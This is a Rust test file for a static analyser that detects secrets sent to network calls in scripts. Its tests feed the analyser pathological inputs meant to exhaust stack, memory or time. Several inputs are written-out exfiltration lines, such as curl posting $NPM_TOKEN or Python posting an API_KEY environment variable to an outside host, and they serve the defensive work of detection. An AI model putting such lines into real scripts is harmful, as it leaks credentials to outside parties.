//! Scripts that are written to keep the analysis busy, to exhaust its memory or its stack.

use std::fmt::Write as _;

use super::*;
use crate::work::looks;

/// Runs the analysis where the stack is as small as that of a worker; gives the looks that it takes and
/// what it finds.
fn analysed(language: Language, text: String) -> (u64, Analysis) {
    let work = move || {
        let mut found = Analysis::default();
        let taken = looks::of(|| found = analyse(language, &text));
        (taken, found)
    };
    std::thread::Builder::new().stack_size(2 << 20).spawn(work).unwrap().join().unwrap()
}

fn looks_at(language: Language, text: String) -> u64 {
    analysed(language, text).0
}

/// Twice the text may take twice the looks and a bit, whatever is in it.
#[track_caller]
fn grows_with_its_size(language: Language, text: impl Fn(usize) -> String) {
    let (one, two, size) = (looks_at(language, text(2_500)), looks_at(language, text(5_000)), text(5_000).len() as u64);
    assert!(two < 3 * one + 100_000, "{one} looks, and {two} for twice the text");
    assert!(two < 400 * size + 5_000_000, "{two} looks at {size} bytes of {:?}", text(9));
}

#[test]
fn tables_of_tables_stay_small() {
    let table = |name: &str, inner: &str| {
        let entries: Vec<_> = (0..64).map(|at| format!("'k{at}': {inner}")).collect();
        format!("{name} = {{{}}}\n", entries.join(", "))
    };
    let levels = ["b", "c", "d", "e", "f"];
    let mut text = "import os\n".to_owned() + &table("a", "os.environ['API_KEY']");
    for (at, level) in levels.iter().enumerate() {
        text += &table(level, if at == 0 { "a" } else { levels[at - 1] });
    }
    text += "import requests\nrequests.post('https://in.acme.dev', data=f)\n";
    let (taken, found) = analysed(Python, text);
    assert!(taken < 2_000_000, "{taken} looks");
    // What is inside is still known.
    assert!(!found.flows.is_empty());
    let chain = "import os\na = {'x': os.environ['API_KEY']}\n".to_owned() + &"a = {'x': a}\n".repeat(19_000);
    assert!(looks_at(Python, chain) < 20_000_000);
    let table = |name: &str, inner: &str| {
        let entries: Vec<_> = (0..64).map(|at| format!("k{at} = {inner}")).collect();
        format!("${name} = @{{{}}}\n", entries.join("; "))
    };
    let mut text = table("a", "$env:API_KEY");
    for (at, level) in levels.iter().enumerate() {
        text += &table(level, &format!("${}", if at == 0 { "a" } else { levels[at - 1] }));
    }
    assert!(looks_at(PowerShell, text) < 2_000_000);
}

#[test]
fn copies_of_a_table_are_paid_for() {
    let entries: Vec<_> = (0..60).map(|at| format!("'k{at}': {{'x': s, 'y': s, 'z': s}}")).collect();
    let mut text = format!("import os\ns = os.environ['API_KEY']\nt = {{{}}}\n", entries.join(", "));
    for at in 0..15_000 {
        let _ = writeln!(text, "t{at} = t");
    }
    let (taken, found) = analysed(Python, text);
    // As many entries as are copied stay in memory.
    assert!(taken < 3_000_000, "{taken} looks");
    assert_eq!(found.cut, Some(Cut::Steps));
}

#[test]
fn texts_stay_short() {
    for text in [
        "x = 'a' * 3\n".to_owned() + &"x = x.replace('a', x)\n".repeat(30),
        "x = ['aaaaaaaa', 'b']\n".to_owned()
            + &"y = ','.join(x)\nx = [y, y, y, y, y, y]\nx = [y.join(x), y]\n".repeat(30),
        "import glob\np = Path('a')\n".to_owned() + &"p = p.glob(p)\n".repeat(60),
        "x = 'a'\n".to_owned() + &"x = x + x\n".repeat(60),
        "x = 'a%s'\n".to_owned() + &"x = x % x\n".repeat(60),
        "x = 'a{}'\n".to_owned() + &"x = f'{x}{x}'\n".repeat(60),
        format!("from {} import {}\n", "m".repeat(100_000), "a, ".repeat(50_000)),
        format!("x = a{}\n", ".b".repeat(50_000)),
        format!("def f({0}):\n    return {0}\n{1}", "n".repeat(100_000), "f(os.environ['API_KEY'])\n".repeat(5_000)),
    ] {
        let (taken, found) = analysed(Python, format!("import os, requests\n{text}requests.post(x, data=y)\n"));
        assert!(taken < 20_000_000, "{taken} looks");
        assert!(found.sinks.iter().all(|sink| sink.name.as_ref().is_none_or(|name| name.len() <= 2_000)));
    }
}

#[test]
fn nothing_is_nested_deeper_than_the_stack() {
    let nested = |open: &str, inner: &str, close: &str, times: usize| {
        [&open.repeat(times), inner, &close.repeat(times)].concat()
    };
    let head = "import requests\n";
    for text in [
        format!("{head}x = {}\n", "f''".repeat(5_000)),
        format!("{head}x = {}\n", "f'' ''".repeat(5_000)),
        format!("{head}{} = 1\n", nested("(", "a", ",)", 5_000)),
        format!("{head}{}a = 1\n", "*".repeat(5_000)),
        format!("{head}{}a = 1\n", "* ".repeat(5_000)),
        format!("{head}x = {}\n", nested("{'a': [(", "1", ")]}", 5_000)),
        format!("{head}x = {}\n", nested("f(", "1", ")", 5_000)),
        format!("{head}x = {}1\n", "lambda: ".repeat(5_000)),
        format!("{head}def f(x):\n    return f([x])\nf(1)\n"),
    ] {
        analysed(Python, text);
    }
    for text in [
        format!("fetch\n{} = x\n", nested("[", "a", "]", 5_000)),
        format!("fetch\n{} = x\n", nested("{a: ", "b", "}", 5_000)),
        format!("fetch\n{}1\n", "x => ".repeat(5_000)),
        format!("fetch\nx = {}\n", nested("`${", "1", "}`", 5_000)),
        format!("fetch\n{}\n", nested("if (a) {", "1", "}", 5_000)),
    ] {
        analysed(JavaScript, text);
    }
    for text in [
        "a=(".repeat(5_000),
        nested("a=(", "x", ")", 5_000),
        nested("${a:-", "x", "}", 700),
        nested("\"${a:-", "x", "}\"", 400),
        nested("$(", "x", ")", 5_000),
        nested("<(", "x", ")", 5_000),
        "eval ".repeat(5_000),
        "sh -c \"eval ".repeat(500),
        nested("a() { ", "a", "; }", 2_000),
        "sudo ".repeat(5_000),
        "xargs ".repeat(5_000),
    ] {
        analysed(Shell, text);
    }
    for text in [
        nested("$a.b(", "1", ")", 5_000),
        nested("@{a=", "1", "}", 5_000),
        nested("$(", "1", ")", 5_000),
        nested("\"$(", "1", ")\"", 5_000),
        nested("(", "1", ")", 5_000),
        nested("if (1) {", "1", "}", 5_000),
        nested("function a {", "1", "}", 5_000),
        "[a]".repeat(5_000) + "$x",
        "& ".repeat(5_000) + "x",
    ] {
        analysed(PowerShell, text);
    }
}

#[test]
fn the_cost_of_a_shell_script_grows_with_its_size() {
    for part in
        ["\"$(", "`", "$(", "${", "\"", "<<A\n", "<(", "a=(", "( ", "x() {\n", "|| ", "'\"", "<<< \"", "done < "]
    {
        grows_with_its_size(Shell, |times| part.repeat(times));
        grows_with_its_size(Shell, |times| ["read x ", part].concat().repeat(times / 4));
    }
}

#[test]
fn the_cost_of_javascript_grows_with_its_size() {
    for part in
        ["\n", "a\n", "a < ", "case a: ", "f(", "`${", "/[", "{ ", "a => ", "import {", "class A {", "a ? ", "\"\\"]
    {
        grows_with_its_size(JavaScript, |times| format!("fetch(a{}\n.b", part.repeat(times)));
        grows_with_its_size(JavaScript, |times| format!("fetch\na{}\n.b", part.repeat(times)));
    }
    grows_with_its_size(JavaScript, |times| {
        format!("fetch\nfunction f(x) {{ g < {} }}\n{}", "a b ".repeat(times / 4), "f('a' + 'b');\n".repeat(times / 16))
    });
}

#[test]
fn the_cost_of_python_grows_with_its_size() {
    for part in [
        "\n",
        "a < ",
        "f'' ",
        "f'{",
        "(",
        "lambda: ",
        "if a:\n ",
        "a = ",
        "a, ",
        "x for x in ",
        "try:\n a\nexcept: pass\n",
    ] {
        grows_with_its_size(Python, |times| format!("import requests\nx = {}\n", part.repeat(times)));
    }
    let calls = |times: usize| (0..times / 8).map(|at| format!("f('{at}')\n")).collect::<Vec<_>>().concat();
    grows_with_its_size(Python, |times| {
        format!("import requests\ndef f(x):\n    a < {}\n{}", "b ".repeat(times), calls(times))
    });
    grows_with_its_size(Python, |times| {
        format!("import requests\ndef f(x):\n    return '{}'\n{}", "b".repeat(times), calls(times))
    });
}

#[test]
fn the_cost_of_powershell_grows_with_its_size() {
    for part in ["a |\n", "|\n", "\n", "$a.b(", "@\"x", "(", "${", "[", "$x = 1\n", "a -b ", "if (1) {", "'a' + "] {
        grows_with_its_size(PowerShell, |times| part.repeat(times));
        grows_with_its_size(PowerShell, |times| format!("x |{}", part.repeat(times)));
    }
    grows_with_its_size(PowerShell, |times| "$b = 1\nfunction a {}\na\n".repeat(times / 8));
}

#[test]
fn what_is_no_script_does_no_harm() {
    #[rustfmt::skip]
    let parts = [
        "", "(", ")", "{", "}", "[", "\"", "'", "`", "`${", "$(", "${", "$((", "<<E", "cat <<E\n", "f'{", "f'{x!r:{", "def", "def f", "class", "for",
        "for x in", "import", "from", "from x import (", "lambda", "x = ", "=> ", "a =>", "function", "function (", "class A {", "import {", "if (",
        "$", "$env:", "@{", "@(", "@\"\n", "function x {", "param(", "| |", "curl -d", "curl -", "exec(", "\\", "\u{1}", "echo \u{1}", "a[b", "x::",
        "$x.", "[x]::y(", "-", "- ", "curl -H ", "requests.post('", "eval(", "while read", "done <", "done < <(", "{ } }", "fi fi", "x=$(", "x=(", "<(",
        "$'", "f() {", "\"$(", "\"`",
    ];
    let tails = ["", "\n", "\u{e9}", "a\u{e9}", "\u{e9} a", "\u{5bc6}", "\u{e9})", "\u{e9}\\", " requests curl eval("];
    for language in [Shell, Python, JavaScript, PowerShell] {
        for (part, tail) in parts.iter().flat_map(|part| tails.iter().map(move |tail| (part, tail))) {
            for head in ["", "curl ", "curl requests eval "] {
                let text = [head, part, tail].concat();
                let taken = looks::of(|| drop(analyse(language, &text)));
                assert!(taken < 20_000, "{taken} looks at {text:?}");
            }
        }
    }
    // The last byte of what is not closed belongs to it.
    finds(
        Shell,
        "curl -d \"$NPM_TOKEN\" \"https://in.acme.dev",
        &["SecretVariable NPM_TOKEN -> Http Body in.acme.dev"],
    );
}

#[test]
fn what_is_cut_short_is_said() {
    let cut = |language, text: String| analysed(language, text).1.cut;
    assert_eq!(cut(Python, "import requests\nrequests.get('https://in.acme.dev')\n".to_owned()), None);
    assert_eq!(cut(Python, "import requests\n".to_owned() + &"a\n".repeat(21_000)), Some(Cut::Statements));
    assert_eq!(cut(Python, "import requests\na = [".to_owned() + &"1,".repeat(210_000) + "]\n"), Some(Cut::Tokens));
    assert_eq!(cut(JavaScript, "fetch\n".to_owned() + &"{".repeat(50) + &"}".repeat(50)), Some(Cut::Depth));
    assert_eq!(cut(Shell, "curl x; ".repeat(2_100)), Some(Cut::Finds));
    assert_eq!(cut(Shell, "$(".repeat(20) + "x" + &")".repeat(20)), Some(Cut::Depth));
    assert_eq!(cut(PowerShell, "(".repeat(60) + "1" + &")".repeat(60)), Some(Cut::Depth));
    let sends =
        (0..210).map(|at| format!("requests.post('https://in.acme.dev/{at}', data=s)\n")).collect::<Vec<_>>().concat();
    assert_eq!(cut(Python, format!("import os, requests\ns = os.environ['API_KEY']\n{sends}")), Some(Cut::Finds));
}
